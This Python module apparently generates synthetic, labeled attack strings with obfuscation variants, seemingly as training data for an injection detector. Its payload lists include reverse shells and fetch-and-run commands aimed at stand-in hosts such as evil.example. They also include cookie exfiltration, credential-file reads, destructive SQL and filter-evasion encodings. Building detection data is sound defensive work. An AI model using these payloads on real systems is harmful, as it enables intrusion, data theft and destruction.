"""Attacks from a grammar of our own, and the ways in which attackers disguise one. Sources: `made/attack-KIND`."""

import base64
import re
import urllib.parse

from sample import Sample
from words import NOUNS

COUNT = {"sqli": 6000, "xss": 2500, "path-traversal": 1500, "rce": 2500, "other": 2000}


def n(chance):
    return str(chance.choice([chance.randint(0, 9), chance.randint(10, 9999)]))


def w(chance):
    return chance.choice([chance.choice(NOUNS), "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=chance.randint(1, 8)))])


def expression(chance):
    """A value in SQL."""
    forms = [
        "{n}", "{n}", "'{w}'", "null", "user()", "version()", "@@version", "database()", "current_user", "sleep({n})", "char({n},{n})", "0x{n}{n}", "concat(0x7e,{f},0x7e)", "(select {f} from {t})", "substring({f},{n},1)",
        "ascii(substr(({q}),{n},1))", "case when {c} then {n} else {n} end", "if({c},{n},{n})", "cast({f} as char)", "count(*)", "group_concat({f})", "chr({n})||chr({n})", "pg_sleep({n})", "extractvalue(1,concat(0x5c,({q})))", "updatexml(1,concat(0x7e,({q})),1)",
        "convert(int,{f})", "load_file('/etc/passwd')", "benchmark({n}000000,md5(1))", "json_extract('{{}}','$.{w}')", "hex({f})", "length({f})", "randomblob({n}00000000)", "dbms_pipe.receive_message('{w}',{n})", "utl_inaddr.get_host_address(({q}))", "xmltype('<{w}>')", "randomblob({n})",
    ]
    return fill(chance, chance.choice(forms))


def condition(chance):
    """A condition that is true, false, or tells something."""
    k, v = n(chance), w(chance)
    return chance.choice([
        f"{k}={k}", f"{k}={k}", f"'{v}'='{v}'", f"'{v}'='{v}", f'"{v}"="{v}', f"{k}>{n(chance)}", f"{k} between {n(chance)} and {n(chance)}", f"{k} in ({k})", f"'{v}' like '{v}", f"{k} is not null", f"exists({select(chance)})", f"not {k}={n(chance)}", f"{k}<>{n(chance)}",
        f"{w(chance)}='{v}'", f"length({w(chance)})>{k}", f"true", f"{k}", f"{expression(chance)}={k}", f"{expression(chance)}>{k}", f"'{v}'<>'{w(chance)}'", f"({k})=({k})", f"{k} like {k}", f"1 rlike {expression(chance)}", f"!({k}={n(chance)})", f"~{k}", f"{w(chance)} is null", f"json_depth('{{}}')!={k}",
    ])


def select(chance):
    table = chance.choice(["users", "information_schema.tables", "mysql.user", "dual", "sysobjects", "sqlite_master", "pg_user", "all_tables", "admin", "accounts", w(chance), "msysobjects", "pg_catalog.pg_tables"])
    field = chance.choice(["*", "password", "table_name", "username,password", "null", "1", "name", "column_name", "count(*)", f"{w(chance)}", "@@version", "user()", "load_file(0x2f6574)"])
    tail = chance.choice(["", "", f" where {w(chance)}='{w(chance)}'", f" limit {n(chance)},1", " where table_schema=database()", f" group by {w(chance)} having 1=1", f" order by {n(chance)}"])
    return f"select {field} from {table}{tail}"


def fill(chance, form):
    text = form
    for mark, make in (("{n}", n), ("{w}", w), ("{q}", select), ("{c}", condition)):
        while mark in text:
            text = text.replace(mark, make(chance), 1)
    while "{f}" in text:
        text = text.replace("{f}", chance.choice(["user()", "password", "version()", "table_name", "@@version", "username", "login", "1"]), 1)
    return text.replace("{t}", chance.choice(["users", "dual", "admin", "information_schema.tables"])).replace("{{}}", "{}")


def sqli(chance):
    """SQL injection: conditions, unions, errors, time, stacked statements, whole statements."""
    start = chance.choice(["", "1", "-1", n(chance), "a", w(chance), "admin", "x", "%", "1%", f"{w(chance)} {w(chance)}"])
    close = chance.choice(["'", "'", "'", '"', "", "", "')", '")', "'))", "))", ")", "`", "\\'", "'/**/", "';", "%'"])
    if not close and start and not start[-1].isdigit():
        close = "'"
    end = chance.choice(["", "-- ", "--", "#", "-- -", "/*", ";--", "--+", ";#", f" and '{w(chance)}'='{w(chance)}", f" or '1'='1", ";%00", f"-- {w(chance)}"])
    plain = ",".join(str(k) for k in range(1, chance.randint(2, 30))) if chance.random() < 0.5 else ",".join(["null"] * chance.randint(1, 12))
    columns = plain if chance.random() < 0.4 else ",".join(chance.choice(["null", n(chance), expression(chance), "'a'"]) for _ in range(chance.randint(1, 9)))
    body = chance.choice([
        f" {chance.choice(['or', 'and', 'or', '||', '&&', 'xor', 'or not', 'and not', 'div', '|'])} {condition(chance)}",
        f" {chance.choice(['or', 'and'])} ({condition(chance)} {chance.choice(['and', 'or'])} {condition(chance)})",
        f" union {chance.choice(['', 'all ', 'distinct '])}select {columns}{chance.choice(['', ' from ' + w(chance), ' from information_schema.tables', ' from dual'])}",
        f" union {chance.choice(['', 'all '])}({select(chance)})",
        f";{chance.choice([select(chance), 'drop table ' + w(chance), 'exec master..xp_cmdshell ' + chr(39) + 'dir' + chr(39), 'waitfor delay ' + chr(39) + '0:0:5' + chr(39), 'insert into ' + w(chance) + ' values(1,2)', 'update users set password=1', 'delete from users', 'shutdown', 'declare @a int', 'begin dbms_lock.sleep(5); end', 'select pg_sleep(5)', 'truncate table ' + w(chance), 'create table a(b int)'])}",
        f" {chance.choice(['and', 'or', '+', '-', '*', '||', '='])} {expression(chance)}",
        f" {chance.choice(['and', 'or'])} {expression(chance)}{chance.choice(['=', '>', '<', ' like '])}{expression(chance)}",
        f" {chance.choice(['and', 'or'])} (select * from (select(sleep({n(chance)}))){w(chance)})",
        f" order by {n(chance)}", f" group by {w(chance)},{n(chance)} having {condition(chance)}", f" having {condition(chance)}", f" procedure analyse({expression(chance)},1)", f" limit {n(chance)} into outfile '/var/www/{w(chance)}.php'", f" in boolean mode) union select {columns}",
        f" where {condition(chance)} {chance.choice(['and', 'or'])} {condition(chance)}", f" as {w(chance)} where {condition(chance)} and {expression(chance)}", f" rlike (select (case when ({condition(chance)}) then {n(chance)} else 0x28 end))", f"=(select {expression(chance)})",
    ])
    text = f"{start}{close}{body}{end}"
    whole = chance.choice([text] * 8 + [
        select(chance), f"({select(chance)})", f"{expression(chance)}{end}", f"{start}{close}{end}" if close and end else text, f"insert into {w(chance)} ({w(chance)}) values ({expression(chance)})", f"select {expression(chance)} from {w(chance)} where {condition(chance)}{end}",
        f"update {w(chance)} set {w(chance)}={expression(chance)} where {condition(chance)}", f"delete from {w(chance)} where {condition(chance)}", f"exec xp_cmdshell('{w(chance)}')", f"{start}'||({select(chance)})||'", f"{start}'+({select(chance)})+'", f"{start}' {chance.choice(['or', 'and'])} '{w(chance)}", f"(select({n(chance)})from(select(sleep({n(chance)})))v)", f"if({condition(chance)},sleep(5),0)", f"'='", f"'-'", f"' or ''='", f"admin'--", f"1 or 1=1", f"or 1=1", f"' or 1 -- ", f"{start}{close} or {n(chance)}",
    ])
    return whole


SCRIPTS = ["alert(1)", "alert('XSS')", "confirm(1)", "prompt(document.domain)", "alert`1`", "eval(atob('YWxlcnQoMSk='))", "document.location='//evil.example/?c='+document.cookie", "fetch('//evil.example')", "window['al'+'ert'](1)", "(alert)(1)", "top.alert(1)", "new Function('alert(1)')()", "import('//evil.example/x.js')", "[1].find(alert)", "throw onerror=alert,1", "String.fromCharCode(88,83,83)"]
EVENTS = "onload onerror onclick onmouseover onfocus onblur ontoggle onstart onanimationend onpointerenter onbeforeprint oninput onwheel onpageshow onhashchange onresize ondrag oncut onkeydown onsubmit".split()
TAGS = "img svg body iframe input video audio details marquee object embed a div math form button select textarea keygen isindex style link meta base x p table".split()


def xss(chance):
    """Script injection: tags, handlers, schemes, templates, breaking out of attributes and scripts."""
    s, e, t, space = chance.choice(SCRIPTS), chance.choice(EVENTS), chance.choice(TAGS), chance.choice([" ", " ", "/", "\t", "\n", "%0c", "/**/"])
    out = chance.choice(["", "", "\">", "'>", "</script>", "-->", "</title>", "</textarea>", "\"'>", "]]>", w(chance)])
    return chance.choice([
        f"{out}<script>{s}</script>", f"{out}<script src=//evil.example/x.js></script>", f"{out}<{t}{space}{e}={s}>", f"{out}<{t}{space}src=x{space}{e}=\"{s}\">", f"{out}<{t}{space}{e}='{s}' x", f"{out}<svg><script>{s}</script></svg>", f"{out}<a href=\"javascript:{s}\">{w(chance)}</a>", f"javascript:{s}", f"{out}<iframe src=javascript:{s}>",
        f"\"{space}{e}=\"{s}", f"'{space}{e}='{s}", f"\" autofocus {e}={s} x=\"", f"';{s};//", f"\";{s};//", f"</script><script>{s}", f"'-{s}-'", f"\"-{s}-\"", f"${{{s}}}", f"{{{{constructor.constructor('{s}')()}}}}", f"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        f"<math href=\"javascript:{s}\">x", f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{s}\">", f"<style>@import'javascript:{s}';</style>", f"<img src=\"jav&#x09;ascript:{s}\">", f"<scr<script>ipt>{s}</scr</script>ipt>", f"<{t} style=\"x:expression({s})\">", f"<!--[if gte IE 4]><script>{s}</script><![endif]-->", f"\\\";{s}//", f"{out}<ScRiPt>{s}</sCrIpT>", f"<{t}{e}={s}>", f"{s}",
        f"data:text/html,<script>{s}</script>", f"vbscript:msgbox(1)", f"<svg><animate{space}{e}={s} attributeName=x>", f"<form><button formaction=javascript:{s}>x", f"<input{space}{e}={s} autofocus>", f"<iframe srcdoc=\"<script>{s}</script>\">", f"{w(chance)}<{t}{space}{e}={s}//", f"<base href=//evil.example>", f"<link rel=import href=//evil.example>",
    ])


def path_traversal(chance):
    """Paths out of the folder, files of the system, wrappers, encodings of dots and slashes."""
    up = chance.choice(["../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "....//", "..;/", "..%252f", "..%c0%af", "..%u2215", "%c0%ae%c0%ae/", "..//", "/..", "\\../", ".../", "./../", "..\\/", "..%00/", "..../", ".\\..\\", "/%5c../", "..%5c/", "0x2e0x2e0x2f", "0x2e0x2e0x5c", "/./", "..%%32%66", "..%e0%80%af", "%uff0e%uff0e%u2215", "../././", "..%01/", "%2e%2e%5c", "..^/"])
    target = chance.choice(["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "etc/hosts", "proc/self/environ", "WEB-INF/web.xml", "winnt/system32/cmd.exe", "var/log/apache2/access.log", "etc/passwd%00.jpg", "windows\\system32\\drivers\\etc\\hosts", "root/.ssh/id_rsa", "home/user/.bash_history", "app/config/parameters.yml", "etc/issue", ".env", "wp-config.php", "inetpub/logs", "proc/version", "{FILE}", "etc/group", "autoexec.bat", w(chance)])
    return chance.choice([
        up * chance.randint(2, 12) + target, up * chance.randint(1, 6) + target, f"/{target}" if "/" in target else f"../../{target}", f"{w(chance)}/{up * chance.randint(2, 8)}{target}", f"file:///{target}", f"php://filter/convert.base64-encode/resource={w(chance)}.php", f"/var/www/{up * chance.randint(2, 6)}{target}", f"C:\\{target}", f"/{up * chance.randint(2, 9)}{target}\x00", f"{w(chance)}.php\x00.{w(chance)[:3]}", f"zip://{w(chance)}.zip#{w(chance)}.php", f"/static/{up * 3}{target}", f"..{chance.choice(['/', chr(92)])}" * chance.randint(3, 20), f"expect://id", f"/scripts/{up * chance.randint(1, 6)}winnt/system32/cmd.exe?/c+dir+c:\\", f"/cgi-bin/{up * chance.randint(2, 6)}{target}", f"{up * chance.randint(3, 9)}{target}{chance.choice(['%00', '%00.html', '^^', '?', '%23', ';', '%20', '.jpg'])}", f"C:/{target}", f"\\\\localhost\\c$\\{target}", f"/{'./' * chance.randint(5, 60)}{target}", f"/proc/self/fd/{chance.randint(0, 20)}", f"/etc/{w(chance)}/../passwd",
    ])


COMMANDS = ["id", "whoami", "cat /etc/passwd", "ls -la", "uname -a", "ping -c 3 192.0.2.1", "sleep 5", "wget http://evil.example/x.sh", "curl http://evil.example/x|sh", "nc -e /bin/sh 192.0.2.1 4444", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "dir c:\\", "type c:\\boot.ini", "net user", "ipconfig /all", "echo vulnerable", "/bin/sleep 31", "/usr/bin/id", "cat${IFS}/etc/passwd", "c'a't /etc/passwd", "/???/c?t /???/p??swd", "powershell -enc SQBFAFgA", "cmd /c dir", "nslookup x.evil.example", "python -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "rm -rf /tmp/x", "touch /tmp/pwned", "printenv", "ps aux", "chmod 777 x", "expr 12 + 13", "w\\hoami", "tail /etc/hosts", "cat<>/etc/passwd", "{cat,/etc/passwd}", "netstat -an", "systeminfo", "reg query HKLM", "ifconfig", "/usr/bin/whoami", "\\windows\\system32\\cmd.exe /c dir", "c:\\windows\\system32\\ipconfig.exe", "net localgroup administrators /add x", "ls", "true", "env", "set", "dir", "ping -n 21 127.0.0.1", "ping -i 30 127.0.0.1", "/bin/ls -al", "/bin/cat /etc/shadow", "which curl", "cmd.exe /c ver", "`id`", "sudo -l", "exec ls", "echo $((1+1))", "awk 'BEGIN{system(\"id\")}'", "busybox nc -l", "mshta http://evil.example/x.hta", "certutil -urlcache -f http://evil.example/x", "tasklist", "crontab -l", "find / -perm -4000"]


def rce(chance):
    """Commands behind every separator, and code of PHP, Java, Python, templates of shells."""
    c, d = chance.choice(COMMANDS), chance.choice(COMMANDS)
    start = chance.choice(["", "", "127.0.0.1", w(chance), "1", "x.jpg", "a'", 'a"', w(chance) + "@example.com"])
    return chance.choice([
        f"{start};{c}", f"{start}; {c};", f"{start}|{c}", f"{start} | {c}", f"{start}||{c}", f"{start}&&{c}", f"{start} && {c} #", f"{start}&{c}&", f"{start}`{c}`", f"{start}$({c})", f"{start}\n{c}\n", f"{start}%0a{c}", f"{start}';{c};'", f"{start}\";{c};\"", f"{start};{c}|{d}", f"{c}", f"<!--#exec cmd=\"{c}\"-->", f"() {{ :;}}; {c}", f"{start}'|{c} #",
        f"system('{c}')", f"<?php system('{c}'); ?>", f"<?=`{c}`?>", f"phpinfo()", f"${{@phpinfo()}}", f"eval($_POST['{w(chance)}']);", f"assert(base64_decode('{base64.b64encode(c.encode()).decode()}'))", f"shell_exec(\"{c}\");", f"passthru('{c}')", f"preg_replace('/a/e','{w(chance)}()','a')", f"include('http://evil.example/{w(chance)}.txt')",
        f"Runtime.getRuntime().exec(\"{c}\")", f"T(java.lang.Runtime).getRuntime().exec('{c}')", f"%{{(#_='multipart/form-data').(#{w(chance)}=@java.lang.Runtime@getRuntime().exec('{c}'))}}", f"new java.lang.ProcessBuilder('{c}').start()", f"class.module.classLoader.resources.context.parent.pipeline.first.pattern={w(chance)}", f"__import__('os').system('{c}')", f"os.popen('{c}').read()", f"require('child_process').exec('{c}')", f"process.mainModule.require('child_process').execSync('{c}')", f"`{c}`", f"|{c}|", f";{c}", f"/bin/{chance.choice(['sh', 'bash'])} -c '{c}'", f"=cmd|' /C {w(chance)}'!A0", f"{start}\r\n{c}",
    ])


def other(chance):
    """Log4Shell, templates, XXE, LDAP, NoSQL, header injection, includes from afar, serialized objects, SSRF."""
    a, b, k = n(chance), n(chance), w(chance)
    jndi = chance.choice(["jndi:ldap", "jndi:rmi", "jndi:dns", "${lower:j}ndi:ldap", "${::-j}${::-n}di:ldap", "${env:X:-j}ndi:${lower:l}dap", "jndi:ldaps"])
    return chance.choice([
        f"${{{jndi}://evil.example/{k}}}", f"${{{jndi}://192.0.2.1:1389/{k}}}", f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"#{{{a}*{b}}}", f"<%= {a}*{b} %>", f"{{{{config.items()}}}}", f"{{{{''.__class__.__mro__[1].__subclasses__()}}}}", f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{% endfor %}}", f"{{php}}echo `id`;{{/php}}", f"${{T(java.lang.System).getenv()}}", f"{{{{self.__init__.__globals__.__builtins__}}}}", f"*{{{a}*{b}}}", f"@({a}*{b})",
        f"<?xml version=\"1.0\"?><!DOCTYPE {k} [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><{k}>&xxe;</{k}>", f"<!DOCTYPE x [<!ENTITY % {k} SYSTEM \"http://evil.example/x.dtd\"> %{k};]>", f"<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>", f"*)(uid=*))(|(uid=*", f"*)({k}=*", f"admin)(&)", f"*)(objectClass=*", f"(&(uid={k})(userPassword=*))", f"' or count(/child::node())=1 or ''='", f"'] | //* | //*['",
        f"{{\"$gt\":\"\"}}", f"{{\"$ne\":null}}", f"{{\"$where\":\"sleep(1000)\"}}", f"' || this.{k} == '{k}", f"';return true;var x='", f"{{\"$regex\":\".*\"}}", f"true, $where: '1 == 1'", f"{k}\r\nSet-Cookie: {k}={a}", f"{k}%0d%0aLocation:%20http://evil.example", f"{k}\r\nBcc: x@evil.example", f"{k}\r\n\r\n<script>alert(1)</script>", f"x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", f"http://evil.example/{k}.txt?", f"ftp://evil.example/shell.php%00",
        f"http://169.254.169.254/latest/meta-data/", f"gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall", f"dict://127.0.0.1:11211/stats", f"O:8:\"{k}\":1:{{s:4:\"data\";s:2:\"id\";}}", f"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", f"{{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/x\"}}", f"<!--#include virtual=\"/etc/passwd\"-->", f"<!--#echo var=\"DOCUMENT_ROOT\"-->", f"__proto__[{k}]=1", f"{{\"__proto__\":{{\"{k}\":1}}}}", f"http://[::ffff:127.0.0.1]/admin", f"file://localhost/etc/passwd", f"<xsl:value-of select=\"system-property('xsl:vendor')\"/>", f"MAIL FROM:<{k}@evil.example>\r\nRCPT TO:<x@example.com>", f"V100 UID FETCH 1:1\r\nA001 LOGOUT",
    ])


GRAMMARS = {"sqli": sqli, "xss": xss, "path-traversal": path_traversal, "rce": rce, "other": other}
KEYWORDS = re.compile(r"\b(select|union|from|where|and|or|order|by|insert|update|like|having|sleep|concat|table|script|alert|exec)\b", re.I)


def disguised(chance, text, kind):
    """The same attack as tampering tools write it."""
    roll = chance.random()
    if roll < 0.2:
        return text
    if roll < 0.25:
        return re.sub(r"\s*([()',=;\"]|--)\s*", r" \1 ", text)
    if roll < 0.35:
        return text.upper()
    if roll < 0.47:
        return "".join(chance.choice([letter.lower(), letter.upper()]) for letter in text)
    if kind == "sqli":
        if roll < 0.57:
            return text.replace(" ", chance.choice(["/**/", "\t", "\n", "+", "%20", "%0a", "/*a*/", "\xa0", "--\n", "#x\n", "()", "  "]) if chance.random() < 0.9 else "")
        if roll < 0.61:
            return KEYWORDS.sub(lambda match: f"/*!{match[0]}*/" if chance.random() < 0.5 else f"/*!50000{match[0]}*/", text)
        if roll < 0.64:
            return KEYWORDS.sub(lambda match: match[0][:2] + "/**/" + match[0][2:], text)
        if roll < 0.67:
            return re.sub(r"(\d)=(\d)", r"\1 like \2", text).replace("'", "%EF%BC%87" if chance.random() < 0.3 else "%bf%27" if chance.random() < 0.3 else "'")
    if roll < 0.72:
        return urllib.parse.quote(text, safe="")
    if roll < 0.75:
        return "".join(f"%{byte:02x}" for byte in text.encode())
    if roll < 0.77:
        return "".join(f"%u{ord(letter):04x}" for letter in text)
    if roll < 0.79:
        return "".join(f"&#{ord(letter)};" if not letter.isalnum() else letter for letter in text)
    if roll < 0.81:
        return "".join(f"\\u{ord(letter):04x}" if not letter.isalnum() else letter for letter in text)
    if roll < 0.85:
        return base64.b64encode(text.encode("utf-8", "surrogateescape")).decode()
    if roll < 0.9:
        return f"{w(chance)} {w(chance)} {text}"
    if roll < 0.93:
        return f"{text} {w(chance)} {w(chance)}"
    if roll < 0.95:
        return f'{{"{w(chance)}":"{text}","{w(chance)}":{n(chance)}}}'
    if roll < 0.97:
        return w(chance) * chance.randint(50, 300) + text
    return text


def all_attacks(chance):
    for kind, grammar in GRAMMARS.items():
        made = set()
        for _ in range(COUNT[kind] * 3):
            value = disguised(chance, grammar(chance), kind).encode("latin-1", "ignore")
            if len(made) < COUNT[kind] and value not in made:
                made.add(value)
                yield Sample(f"made/attack-{kind}", kind, value)


def disguised_sample(chance, sample):
    """An attack of a corpus, disguised: for training only."""
    text = sample.value.decode("latin-1")
    return Sample(sample.source, sample.kind, disguised(chance, text, sample.kind).encode("latin-1", "ignore"))
